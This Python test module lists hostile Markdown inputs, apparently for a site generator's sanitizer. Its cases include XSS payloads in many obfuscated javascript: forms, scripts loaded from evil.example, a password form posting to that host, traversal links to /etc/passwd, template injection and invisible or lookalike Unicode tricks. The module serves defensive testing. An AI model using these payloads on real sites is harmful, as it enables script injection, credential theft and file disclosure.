"""Markdown that would run, load, include, hide or pretend something."""

from collections.abc import Mapping

from tests.hostile.case import Case, Content, Home, case, text

RUNS = "window.__pwned=1"
EVIL = "https://evil.example"


def link(target: str) -> Mapping[str, Content]:
    return text(f"[een plan]({target})")


def image(target: str) -> Mapping[str, Content]:
    return text(f"![Een beeld]({target})")


CASES: tuple[Case, ...] = (
    case("script", "506", "runs", text(f"<script>{RUNS}</script>")),
    case("script-from-elsewhere", "506", "runs", text(f'<script src="{EVIL}/x.js"></script>')),
    case("script-in-a-list", "506", "runs", text(f"- <script>{RUNS}</script>")),
    case("script-in-a-quote", "506", "runs", text(f"> <script>{RUNS}</script>")),
    case("image-with-an-event", "506", "runs", text(f"x <img src=x onerror={RUNS}>")),
    case("drawing-with-an-event", "506", "runs", text(f"<svg onload={RUNS}></svg>")),
    case("half-a-tag", "506", "runs where the rest is added",
         text(f"<img src=x onerror={RUNS} \n>")),
    case("frame", "506", "shows another site", text(f'<iframe src="{EVIL}/"></iframe>')),
    case("frame-with-its-page", "506", "runs",
         text(f'<iframe srcdoc="<script>parent.{RUNS}</script>"></iframe>')),
    case("style", "506", "hides the page", text("<style>body{display:none}</style>")),
    case("base", "506", "moves every link", text(f'<base href="{EVIL}/">')),
    case("refresh", "506", "leads away",
         text(f'<meta http-equiv="refresh" content="0;url={EVIL}/">')),
    case("form", "506", "asks for a password",
         text(f'<form action="{EVIL}/"><input name="wachtwoord"></form>')),
    case("comment", "506", "hides text from the reader", text("<!-- voor de machine -->")),
    case("markdown-in-html", "506", "runs",
         text(f'<div markdown="1" onmouseover="{RUNS}">\n\n*x*\n\n</div>')),
    case("link-that-runs", "507", "runs", link(f"javascript:{RUNS}")),
    case("link-in-capitals", "507", "runs", link(f"JaVaScRiPt:{RUNS}")),
    case("link-with-entities", "507", "runs", link(f"&#106;avascript&colon;{RUNS}")),
    case("link-with-hex-entities", "507", "runs", link(f"&#x6A;avascript&#x3A;{RUNS}")),
    case("link-with-a-tab", "507", "runs", link(f"java\tscript:{RUNS}")),
    case("link-with-a-newline", "507", "runs", link(f"<java&NewLine;script:{RUNS}>")),
    case("link-with-percents", "507", "runs", link(f"%6Aavascript%3A{RUNS}")),
    case("link-in-brackets", "507", "runs", text(f"<javascript:{RUNS}>")),
    case("link-by-reference", "507", "runs", text(f"[een plan][x]\n\n[x]: javascript:{RUNS}")),
    case("link-of-data", "507", "runs",
         text(f"[een plan](data:text/html,<script>{RUNS}</script>)".replace("<", "%3C"))),
    case("link-of-vbscript", "507", "runs", link("vbscript:msgbox")),
    case("link-to-the-disk", "507", "reads a file", link("file:///etc/passwd")),
    case("link-without-a-scheme", "507", "leads away", link("//evil.example/")),
    case("image-of-data", "507", "runs in some browsers",
         image("data:image/svg+xml;base64,PHN2Zy8+")),
    case("image-that-runs", "507", "runs", image(f"javascript:{RUNS}")),
    case("image-from-elsewhere", "508", "tells who reads", image(f"{EVIL}/x.png")),
    case("image-without-a-scheme", "508", "tells who reads", image("//evil.example/x.png")),
    case("image-by-reference", "508", "tells who reads",
         text(f"![Een beeld][y]\n\n[y]: {EVIL}/x.png")),
    case("link-out-of-the-folder", "501", "reads a file", link("../../../../../etc/passwd")),
    case("link-out-with-percents", "501", "reads a file",
         link("%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd")),
    case("link-from-the-root", "501", "reads a file", link("/etc/passwd")),
    case("image-out-of-the-folder", "501", "publishes a file", image("../../../.git/config")),
    case("attributes-with-an-event", "509", "runs", text(f'Tekst {{: onclick="{RUNS}" }}')),
    case("attributes-in-short", "509", "runs", text(f"Tekst {{ onclick={RUNS} }}")),
    case("snippet", "509", "shows a file", text('--8<-- "/etc/passwd"')),
    case("snippet-in-a-block", "509", "shows a file",
         text("--8<--\n../../../../../etc/passwd\n--8<--")),
    case("template", "509", "runs", text("{{ config.__class__.__init__.__globals__ }}")),
    case("template-block", "509", "shows a file", text('{% include "/etc/passwd" %}')),
    case("front-matter", "510", "chooses a template",
         {"text": b"---\ntemplate: 404.html\nrecord: {}\n---\n\n# Vreemd\n"}),
    case("front-matter-of-a-page", "102", "chooses a template",
         {"content/pages/vreemd.md": b"---\ntitle: Vreemd\ntemplate: 404.html\n---\n\nTekst.\n"},
         Home.BLUEPRINT),
    case("mention", "519", "calls somebody", text("Beste @burgemeester, kijk eens.")),
    case("lookalike", "520", "pretends to be another name", text("Het l\u043eket.")),
    case("lookalike-address", "520", "leads elsewhere", link("https://ex\u0430mple.org/")),
    case("right-to-left", "008", "reads otherwise than it is", text("Loon \u202e0001\u202c euro")),
    case("zero-width", "008", "cannot be found", text("Lo\u200bket")),
    case("tags-nobody-sees", "008", "speaks to machines only", text("x\U000e0041\U000e0042")),
)  # fmt: skip
